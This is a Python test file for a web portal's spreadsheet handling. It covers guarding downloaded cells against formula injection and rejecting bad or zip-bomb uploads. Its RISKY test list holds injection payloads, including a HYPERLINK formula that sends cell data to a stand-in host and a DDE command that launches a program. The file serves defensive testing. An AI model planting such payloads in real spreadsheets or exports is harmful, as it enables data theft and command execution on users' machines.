"""The guard against formulas in downloads, and the checks an uploaded workbook passes first."""

import io
import zipfile

import pytest
from django.core.management import call_command
from django.core.management.base import SystemCheckError
from django.utils import translation
from openpyxl import Workbook, load_workbook

from portal.core import spreadsheets
from portal.core.spreadsheets import SpreadsheetError, check_xlsx, neutralise, unguard, xlsx_value

RISKY = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
    "+47 12 34 56 78",
    "-1",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +1",
    "\u00a0@x",
    "=cmd|' /C calc'!A0",
    # Error values: a spreadsheet would show an error instead of the answer.
    "#N/A",
    "#DIV/0!",
    "#ref!",
]
HARMLESS = [
    "Bolig",
    "",
    "a=b",
    "1-2",
    "'quoted",
    " spaced",
    "e-post@kommune.no",
    "100 %",
    "#1",
    "#N/A-ish",
]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert unguard(neutralise(text)) == text


@pytest.mark.parametrize("value", [*HARMLESS, None, -5, -0.5, 3.5, 0, True])
def test_everything_else_is_left_alone(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert unguard(value) == value


def test_unguard_takes_off_only_the_guard():
    assert unguard("'Bolig") == "'Bolig"  # someone's own apostrophe stays
    assert neutralise("'Bolig") == "'Bolig"
    # Someone's own apostrophe before a formula character gets a guard too, so it comes back.
    for text in ("'=1", "''+1", "' -1"):
        assert neutralise(text) == "'" + text
        assert unguard(neutralise(text)) == text


@pytest.mark.parametrize("text", RISKY)
def test_a_workbook_holds_the_text_not_a_formula(text):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("data")
    sheet.append([xlsx_value(text), -5, 2.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [c.data_type for c in row] == ["s", "n", "n"]
    assert row[0].value == "'" + text.replace("\r", "\n")  # XML reads a carriage return as \n
    assert [row[1].value, row[2].value] == [-5, 2.5]


def test_xlsx_value_drops_what_xml_cannot_hold_before_it_guards():
    assert xlsx_value("\x01=1+1") == "'=1+1"
    assert xlsx_value("Ola\x0bNordmann") == "OlaNordmann"
    assert len(xlsx_value("x" * 40_000)) == spreadsheets.XLSX_CELL_LIMIT
    assert xlsx_value(None) is None and xlsx_value(7) == 7


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_check_xlsx_passes_an_ordinary_workbook():
    workbook = Workbook()
    workbook.active.append(["tenure", "rooms", "units"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    check_xlsx(buffer.getvalue())


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"PK\x03\x04 not a zip", "cannot be read"),
        (_zip({"xl/worksheets/sheet1.xml": b"0" * (21 * 1024 * 1024)}), "when unpacked"),
        (_zip({f"p{i}": b"" for i in range(501)}), "501 parts"),
        (_zip({"xl/styles.xml": b"<xf/>" * 300_000}), "cell styles"),
    ],
    ids=["not a zip", "zip bomb", "too many parts", "style sheet"],
)
def test_check_xlsx_refuses(content, fragment):
    with translation.override("en"), pytest.raises(SpreadsheetError, match=fragment):
        check_xlsx(content)


def test_the_portal_refuses_to_start_if_openpyxl_would_expand_entities(monkeypatch):
    import openpyxl

    call_command("check")
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(SystemCheckError, match="portal.E002"):
        call_command("check")
